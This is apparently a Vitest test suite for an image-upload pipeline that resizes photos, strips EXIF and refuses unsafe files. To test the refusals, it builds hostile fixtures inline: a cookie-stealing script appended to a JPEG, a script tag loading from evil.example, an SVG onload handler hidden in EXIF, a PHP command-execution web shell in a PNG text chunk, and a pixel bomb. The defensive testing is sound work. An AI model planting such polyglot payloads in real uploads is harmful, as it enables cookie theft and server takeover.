import exifr from 'exifr';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { mediaConfig } from '@/lib/config/site';
import { avif, gifHtmlPolyglot, jpeg, jpegOrientation6, jpegWithGps, png, pngBomb, pngChunk, svgWithScript, webp } from '@/test/images';
import { MediaError } from './media-error';
import { processImage } from './process-image';
import { findPolyglotMarker, sniffFormat } from './sniff';

const marker = async (b: Buffer) => findPolyglotMarker(b, await sniffFormat(b));

async function refused(bytes: Uint8Array): Promise<MediaError> {
  try {
    await processImage(bytes);
  } catch (error) {
    expect(error).toBeInstanceOf(MediaError);
    return error as MediaError;
  }
  throw new Error('the file was accepted');
}

const EXPECTED_FORMAT = { avif: 'heif', webp: 'webp' } as const;

describe('processImage: accepted formats', () => {
  it.each([
    ['JPEG', jpeg, 'image/jpeg', 2000, 1333],
    ['PNG', png, 'image/png', 1200, 800],
    ['WebP', webp, 'image/webp', 1800, 1200],
    ['AVIF', avif, 'image/heif', 1700, 1000],
  ] as const)('%s becomes 480/960/1600 in AVIF and WebP, never upscaled', async (_name, make, mime, w, h) => {
    const out = await processImage(await make());
    expect(out.mime).toBe(mime);
    expect([out.width, out.height]).toEqual([w, h]);
    expect(out.id).toMatch(/^[0-9a-f]{32}$/);
    expect(out.variants).toHaveLength(mediaConfig.widths.length * mediaConfig.formats.length);
    for (const v of out.variants) {
      const m = await sharp(v.data).metadata();
      expect(m.format).toBe(EXPECTED_FORMAT[v.format]);
      if (v.format === 'avif') expect(m.compression).toBe('av1');
      expect(m.width).toBe(Math.min(v.slot, w));
      expect(v.width).toBe(m.width);
      expect(v.height).toBe(Math.round((Math.min(v.slot, w) * h) / w));
    }
    expect(out.blur).toMatch(/^data:image\/webp;base64,/);
    expect(Buffer.from(out.blur.split(',')[1]!, 'base64').length).toBeLessThan(600);
  }, 90_000);

  it('keeps a narrow photo at its own width in the larger slots', async () => {
    const out = await processImage(await jpeg(600, 400));
    const webps = out.variants.filter((v) => v.format === 'webp').map((v) => [v.slot, v.width]);
    expect(webps).toEqual([
      [480, 480],
      [960, 600],
      [1600, 600],
    ]);
  });
});

describe('processImage: refused files', () => {
  it('refuses SVG with a script, whatever its name or type', async () => {
    expect(await sniffFormat(svgWithScript)).toBeNull();
    const e = await refused(svgWithScript);
    expect(e.code).toBe('unsupported');
    expect(e.message).toMatch(/không phải ảnh JPEG, PNG, WebP hay AVIF/);
  });

  it('refuses GIF, HTML, PDF and plain text', async () => {
    for (const bytes of [
      await sharp({ create: { width: 20, height: 20, channels: 3, background: '#fff' } }).gif().toBuffer(),
      Buffer.from('<!doctype html><html><body>xin chào</body></html>'),
      Buffer.from('%PDF-1.7\n1 0 obj << >> endobj\ntrailer\n'),
      Buffer.from('Đây không phải là ảnh, chỉ là chữ.'),
      await sharp({ create: { width: 20, height: 20, channels: 3, background: '#fff' } }).tiff().toBuffer(),
    ]) {
      expect((await refused(bytes)).code).toBe('unsupported');
    }
  });

  it('refuses a GIF/HTML polyglot', async () => {
    expect((await refused(gifHtmlPolyglot)).code).toBe('unsupported');
  });

  it('refuses a valid JPEG with a page appended after its end (decodes fine, sniffs as JPEG)', async () => {
    const good = await jpeg(400, 300);
    const poly = Buffer.concat([good, Buffer.from('<html><script>alert(document.cookie)</script></html>')]);
    // What would fool naive checks: the magic bytes and the decoder both say "JPEG".
    expect(await sniffFormat(poly)).toBe('jpeg');
    expect((await sharp(poly).metadata()).format).toBe('jpeg');
    const e = await refused(poly);
    expect(e.code).toBe('polyglot');
    expect(e.message).toMatch(/HTML\/script/);
  });

  it('refuses a JPEG header followed by a script, and a script hidden in EXIF', async () => {
    const headerThenScript = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0<script src=//evil.example/x.js></script>')]);
    expect((await refused(headerThenScript)).code).toBe('polyglot');
    const inExif = await (await sharp({ create: { width: 64, height: 64, channels: 3, background: '#888' } }))
      .withExif({ IFD0: { ImageDescription: '<svg onload=alert(1)>' } })
      .jpeg()
      .toBuffer();
    expect((await refused(inExif)).code).toBe('polyglot');
  });

  it('refuses PHP in a PNG text chunk', async () => {
    const good = await png(200, 100);
    const iend = good.length - 12;
    const poly = Buffer.concat([good.subarray(0, iend), pngChunk('tEXt', Buffer.from('Comment\0<?php system($_GET["c"]); ?>', 'latin1')), good.subarray(iend)]);
    expect((await sharp(poly).metadata()).format).toBe('png');
    expect((await refused(poly)).code).toBe('polyglot');
  });

  it('does not mistake compressed pixel data for markup (no false alarm on real photos)', async () => {
    // Markup-like bytes inside JPEG scan data or PNG IDAT are pixels, not a page; after the end they are a payload.
    const j = Buffer.from(await jpeg(800, 600));
    let sos = 2;
    while (!(j[sos] === 0xff && j[sos + 1] === 0xda)) sos += 2 + j.readUInt16BE(sos + 2);
    const inScan = Buffer.from(j);
    inScan.write('<svg<script<html', sos + 2 + j.readUInt16BE(sos + 2) + 100, 'latin1');
    expect(await marker(inScan)).toBeNull();
    expect(await marker(Buffer.concat([j, Buffer.from('<svg onload=alert(1)>')]))).toBe('<svg');

    const p = Buffer.from(await png(300, 200));
    const idat = p.indexOf('IDAT', 0, 'latin1');
    const inIdat = Buffer.from(p);
    inIdat.write('<script>', idat + 20, 'latin1');
    expect(await marker(inIdat)).toBeNull();

    for (const make of [webp, avif]) {
      const b = Buffer.from(await make(300, 200));
      expect(await marker(b)).toBeNull();
      expect(await marker(Buffer.concat([b, Buffer.from('<html><script>x</script>')]))).not.toBeNull();
    }
  });

  it('refuses a corrupt or truncated photo with a clear message', async () => {
    const good = await jpeg(800, 600);
    const e = await refused(good.subarray(0, 400));
    expect(e.code).toBe('corrupt');
    expect(e.message).toMatch(/hỏng/);
  });

  it('refuses a file over the size limit before reading it as an image', async () => {
    const big = Buffer.alloc(mediaConfig.maxBytes + 1);
    big.set([0xff, 0xd8, 0xff, 0xe0]);
    const e = await refused(big);
    expect(e.code).toBe('too-large');
    expect(e.message).toMatch(/Ảnh quá lớn \(25 MB\)\. Giới hạn là 25 MB/);
  });

  it('refuses a pixel bomb (a small PNG that decodes to 400 megapixels) without decoding it', async () => {
    const bomb = pngBomb(20_000);
    expect(bomb.length).toBeLessThan(200_000);
    const rssBefore = process.memoryUsage().rss;
    const e = await refused(bomb);
    expect(e.code).toBe('too-many-pixels');
    expect(e.message).toMatch(/20000 × 20000 ≈ 400 megapixel\)\. Giới hạn là 50 megapixel/);
    // Decoding it would need 400 MB (8-bit) or more; refusing it costs next to nothing.
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(100 * 1024 * 1024);
  });

  it('sharp itself stops at the pixel limit too (defence in depth)', async () => {
    await expect(sharp(pngBomb(8000), { limitInputPixels: mediaConfig.maxPixels }).raw().toBuffer()).rejects.toThrow(/pixel limit/i);
  });
});

describe('processImage: what leaves the server', () => {
  it('strips EXIF: no GPS position, no camera, in any variant', async () => {
    const original = await jpegWithGps('T.C');
    const before = await exifr.parse(original, { gps: true });
    expect(before.latitude).toBeCloseTo(15.57, 1);
    expect(before.Make).toBe('Canon');

    const out = await processImage(original);
    for (const v of [...out.variants.map((x) => x.data), Buffer.from(out.blur.split(',')[1]!, 'base64')]) {
      const m = await sharp(v).metadata();
      expect(m.exif).toBeUndefined();
      expect(m.xmp).toBeUndefined();
      expect(m.icc).toBeUndefined();
      expect(await exifr.gps(v).catch(() => undefined)).toBeUndefined();
      const text = v.toString('latin1');
      expect(text).not.toContain('Exif\0\0');
      expect(text).not.toContain('Canon');
    }
    // …but the photographer's name is read to prefill the credit.
    expect(out.embedded.credit).toBe('T.C');
    expect(out.embedded.caption).toBe('Anh hoi nghi');
  });

  it('applies EXIF orientation 6: a 300×200 photo stored sideways comes out 200×300, upright', async () => {
    const out = await processImage(await jpegOrientation6());
    expect([out.width, out.height]).toEqual([200, 300]);
    const v = out.variants.find((x) => x.format === 'webp' && x.slot === 480)!;
    expect([v.width, v.height]).toEqual([200, 300]);
    const { data, info } = await sharp(v.data).raw().toBuffer({ resolveWithObject: true });
    const px = (x: number, y: number) => Array.from(data.subarray((y * info.width + x) * info.channels, (y * info.width + x) * info.channels + 3));
    const [tr, , tb] = px(100, 40);
    const [br, , bb] = px(100, 260);
    expect(tr).toBeGreaterThan(200);
    expect(tb).toBeLessThan(60);
    expect(bb).toBeGreaterThan(200);
    expect(br).toBeLessThan(60);
    expect((await sharp(v.data).metadata()).orientation).toBeUndefined();
  });

  it('names a photo by the hash of its bytes', async () => {
    const bytes = await png(300, 200);
    const [a, b] = [await processImage(bytes), await processImage(Buffer.from(bytes))];
    expect(a.id).toBe(b.id);
    expect((await processImage(await png(301, 200))).id).not.toBe(a.id);
  });
});
